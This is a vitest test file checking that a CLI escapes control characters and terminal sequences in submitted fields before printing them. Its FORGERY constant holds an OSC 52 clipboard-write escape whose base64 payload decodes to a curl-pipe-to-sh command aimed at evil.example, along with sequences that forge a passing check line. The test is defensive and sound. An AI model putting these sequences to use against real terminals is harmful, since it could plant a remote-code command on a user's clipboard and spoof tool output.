/**
 * What the maintainer's commands print (src/cli/terminal-text.ts): every C0 and C1 control, DEL,
 * the bidirectional controls and U+2028/U+2029, sent through submitted notes, file paths, check
 * summaries, loadout ids, event notes, pull-request addresses and key names, reach stdout only
 * escaped, through `submissions list`, `show`, `pr`, `sync` and `keys`, as text and as JSON; and
 * a line feed inside a field cannot forge a line of ours. Real SQLite file, fake GitHub on
 * 127.0.0.1.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { dbMigrateCommand } from '../../src/cli/commands/db.js';
import { keysCreateCommand, keysListCommand } from '../../src/cli/commands/keys.js';
import { submissionsListCommand, submissionsPrCommand, submissionsShowCommand, submissionsSyncCommand } from '../../src/cli/commands/submissions.js';
import { printable, printableJson, printableLine } from '../../src/cli/terminal-text.js';
import { openDatabase } from '../../src/storage/database.js';
import { createStores } from '../../src/storage/stores.js';
import { startGitHub } from '../bot/setup.js';
import { makeTempDir } from '../helpers/temp.js';

const codePoints = (from: number, to: number): string => Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i)).join('');
/** Every character that must never reach a terminal raw (the line feed is tested by the forged line). */
const UNSAFE = `${codePoints(0x00, 0x1f)}\u007f${codePoints(0x80, 0x9f)}\u061c\u200e\u200f${codePoints(0x202a, 0x202e)}${codePoints(0x2066, 0x2069)}\u2028\u2029`;
const UNSAFE_BUT_LINE_FEED = [...UNSAFE].filter((c) => c !== '\n');
/** An OSC 52 clipboard write, cursor-up and erase-line, and a line that forges a check result. */
const FORGERY = '\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=\u0007\u001b[1A\u001b[2K\u009b1A\nchecks: all 10 pass\r\nchecks: all 10 pass';
const HOSTILE = `x${UNSAFE}${FORGERY}x`;

/** The unsafe characters in `text` other than the line feeds that end our own lines. */
function raw(text: string): string[] {
  return [...new Set([...text].filter((c) => UNSAFE_BUT_LINE_FEED.includes(c)))].map((c) => `U+${(c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);
}

function collector(): { write: (text: string) => void; text: () => string } {
  let buffer = '';
  return { write: (t) => void (buffer += t), text: () => buffer };
}

function expectSafe(label: string, text: string): void {
  expect(text.length, label).toBeGreaterThan(0);
  expect(raw(text), label).toEqual([]);
  expect(text, label).not.toMatch(/^\s*checks: all 10 pass/mu);
}

describe('printable text', () => {
  it('shows every unsafe character escaped, line feeds and tabs too within one field', () => {
    expect(raw(printableLine(HOSTILE))).toEqual([]);
    expect(printableLine(HOSTILE)).not.toContain('\n');
    expect(printableLine('a\tb\nc\u2028d\u009be')).toBe('a\\u{9}b\\u{a}c\\u{2028}d\\u{9b}e');
    expect(printable('a\tb\nc\u2029d')).toBe('a\tb\nc\\u{2029}d');
    expect(raw(printableJson({ [HOSTILE]: HOSTILE }))).toEqual([]);
    expect(JSON.parse(printableJson({ [HOSTILE]: HOSTILE }))).toEqual({ [HOSTILE]: HOSTILE });
  });
});

describe('the maintainer commands print submitted text escaped', () => {
  it('submissions list, show, pr and sync, and keys create and list', async () => {
    const url = `sqlite:${join(makeTempDir(), 'catalogue.db')}`;
    await dbMigrateCommand({ databaseUrl: url }, collector().write);
    const { fake } = await startGitHub();
    const pull = fake.open({ title: 'Add x 1.0.0', head: 'submission/x', base: 'main', body: 'b' });
    const accepted = '11111111-1111-4111-8111-111111111111';
    const prOpened = '22222222-2222-4222-8222-222222222222';
    const database = openDatabase(url);
    try {
      const store = createStores(database).submissions;
      // Rows as another tool (or an older version) could have written them: nothing validated.
      for (const [id, loadoutId] of [[accepted, `a${HOSTILE}`], [prOpened, `b${HOSTILE}`]] as const) {
        await store.create(
          {
            id,
            loadoutId,
            status: 'accepted',
            submitter: `key:${HOSTILE}`,
            contactEmail: `${HOSTILE}@example.org`,
            clientAddress: HOSTILE,
            request: { notes: HOSTILE },
            manifest: 'id: x\n',
            verification: { checks: [{ id: `listing${HOSTILE}`, status: `pass${HOSTILE}`, summary: HOSTILE }] },
            createdAt: '2026-11-22T10:00:00.000Z',
            files: [{ path: 'AGENTS.md', content: 'x' }, { path: `rules/${HOSTILE}.md`, content: 'y' }],
          },
          `form${HOSTILE}`,
        );
      }
      await store.note(accepted, { actor: `bot${HOSTILE}`, at: '2026-11-22T11:00:00.000Z', note: HOSTILE });
      const moved = await store.transition(prOpened, { from: ['accepted'], to: 'pr-opened', actor: 'bot', at: '2026-11-22T12:00:00.000Z', note: HOSTILE, prUrl: `${pull.url}?${HOSTILE}` });
      expect(moved?.status).toBe('pr-opened');
    } finally {
      await database.close();
    }

    for (const json of [false, true]) {
      const list = collector();
      expect(await submissionsListCommand({ databaseUrl: url, json }, list.write)).toBe(0);
      expectSafe(`list json=${json}`, list.text());
      if (!json) expect(list.text().split('\n').filter((l) => l !== '')).toHaveLength(2);
      for (const id of [accepted, prOpened]) {
        const show = collector();
        expect(await submissionsShowCommand({ databaseUrl: url, id, json }, show.write)).toBe(0);
        expectSafe(`show ${id} json=${json}`, show.text());
        if (json) expect((JSON.parse(show.text()) as { request: { notes: string } }).request.notes).toBe(HOSTILE);
      }
      const pr = collector();
      const prErr = collector();
      // A dry run without a GitHub token: the hostile id and path are refused before any git work.
      expect(await submissionsPrCommand({ databaseUrl: url, root: makeTempDir(), ids: [accepted], remote: 'origin', base: 'main', dryRun: true, json, env: {} }, pr.write, prErr.write)).toBe(1);
      expectSafe(`pr json=${json}`, pr.text());
      expect(raw(prErr.text())).toEqual([]);
      const sync = collector();
      const syncErr = collector();
      const env = { GITHUB_TOKEN: fake.token, GITHUB_REPOSITORY: `${fake.owner}/${fake.repo}`, GITHUB_API_URL: fake.url };
      expect(await submissionsSyncCommand({ databaseUrl: url, ids: [prOpened], json, env }, sync.write, syncErr.write)).toBe(0);
      expectSafe(`sync json=${json}`, sync.text());
      expect(sync.text()).toContain(json ? 'bx\\u0000\\u0001' : 'bx\\u{0}\\u{1}');
      expect(raw(syncErr.text())).toEqual([]);
    }

    // Key names hold at most 100 characters: the unsafe characters in one, the forged line in another.
    for (const name of [`k${UNSAFE}k`, 'k\u001b[1A\u001b[2K\nchecks: all 10 pass']) {
      const created = collector();
      expect(await keysCreateCommand({ databaseUrl: url, name }, created.write)).toBe(0);
      expectSafe('keys create', created.text().split('\n').slice(1).join('\n'));
    }
    for (const json of [false, true]) {
      const keys = collector();
      expect(await keysListCommand({ databaseUrl: url, json }, keys.write)).toBe(0);
      expectSafe(`keys list json=${json}`, keys.text());
    }
  });
});
